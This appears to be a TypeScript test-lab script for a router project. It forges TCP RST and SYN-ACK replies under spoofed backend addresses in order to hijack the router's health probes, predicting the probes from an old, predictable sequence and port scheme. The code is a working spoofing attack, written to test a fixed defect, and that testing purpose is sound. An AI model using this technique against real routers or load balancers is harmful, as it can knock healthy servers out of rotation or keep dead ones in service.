// SPDX-License-Identifier: Apache-2.0
// A host on the private LAN that forges answers to the router's health probes (issue 14, defect
// 7), for the tests: RSTs "from" a live real to take it down, SYN-ACKs "from" a dead one to keep
// it up. It predicts probes the way the old scheme made them predictable: slots handed out FIFO
// from 0, generation 1 on their first use, seq = slot << 16 | generation and source port
// 61440 + ((slot + generation) & 4095); for each of the first `slots` slots it sends the answer
// that scheme would take. It sends from its own MAC (spoofing the real's would move the LAN
// bridge's idea of where the real is). Bounded: stops after `ms`.
//
// Run inside the attacker's namespace:
//   node dist/lab/forge-probe-answers.js '{"ifname":"eth0","srcMac":"..","routerMac":"..","router":"10.77.0.1",
//     "forge":[{"from":"10.77.0.11","port":80,"flags":"RST,ACK"}],"slots":4096,"ms":4000}'
// Prints one JSON line: frames sent, frames the device refused, rounds.

import { RawFrames, EAGAIN, ENOBUFS } from '../src/host/raw-frames.js';
import { libc } from '../src/kernel/libc.js';
import { buildFrame } from '../testing/frames.js';
import { InvalidArgumentError } from '../src/errors.js';

export interface ForgeSpec {
  ifname: string;
  srcMac: string; // the attacker's own (the test reads it: /sys is the host's under nsenter)
  routerMac: string;
  router: string; // the router's private address: the probes' source
  forge: Array<{ from: string; port: number; flags: 'RST,ACK' | 'SYN,ACK' }>;
  slots: number; // slots predicted, from 0 (at most 4096: one per port at generation 1)
  ms: number;
}

const PORT_MIN = 61440;
const BURST = 256;

/** The answers the old scheme takes for `slots` slots at generation 1. */
function forgedFrames(spec: ForgeSpec, srcMac: string): Buffer[] {
  const out: Buffer[] = [];
  for (let slot = 0; slot < spec.slots; slot++) {
    const gen = 1;
    const seq = ((slot << 16) | gen) >>> 0;
    const dport = PORT_MIN + ((slot + gen) & 4095);
    for (const f of spec.forge) {
      out.push(buildFrame({
        eth: { src: srcMac, dst: spec.routerMac },
        l3: { kind: 'ipv4', src: f.from, dst: spec.router, id: slot & 0xffff, ttl: 64, l4: { kind: 'tcp', sport: f.port, dport, seq: 0x5eed0000 + slot, ack: (seq + 1) >>> 0, flags: f.flags, window: f.flags === 'RST,ACK' ? 0 : 65535 } },
      }));
    }
  }
  return out;
}

function main(): void {
  const spec = JSON.parse(process.argv[2] ?? '') as ForgeSpec;
  if (!(spec.slots >= 1 && spec.slots <= 4096)) throw new InvalidArgumentError('slots', spec.slots, 'must be 1..4096');
  if (!(spec.ms >= 1 && spec.ms <= 60_000)) throw new InvalidArgumentError('ms', spec.ms, 'must be 1..60000');
  const ifindex = libc.if_nametoindex(spec.ifname) as number;
  if (ifindex === 0) throw new InvalidArgumentError('ifname', spec.ifname, 'no such interface here');
  const frames = forgedFrames(spec, spec.srcMac);
  const raw = new RawFrames({ ifindex, batch: BURST, frameMax: 128 });
  const end = Date.now() + spec.ms;
  let sent = 0, refused = 0, rounds = 0;
  try {
    while (Date.now() < end) {
      for (let i = 0; i < frames.length && Date.now() < end; i += BURST) {
        const chunk = frames.slice(i, i + BURST);
        const r = raw.sendFrames(chunk);
        sent += r.sent;
        if (r.errno !== 0 && r.errno !== EAGAIN && r.errno !== ENOBUFS) throw new Error(`sendmmsg: errno ${r.errno}`);
        refused += chunk.length - r.sent;
      }
      rounds++;
    }
  } finally {
    raw.close();
  }
  process.stdout.write(`${JSON.stringify({ sent, refused, rounds })}\n`);
}

main();
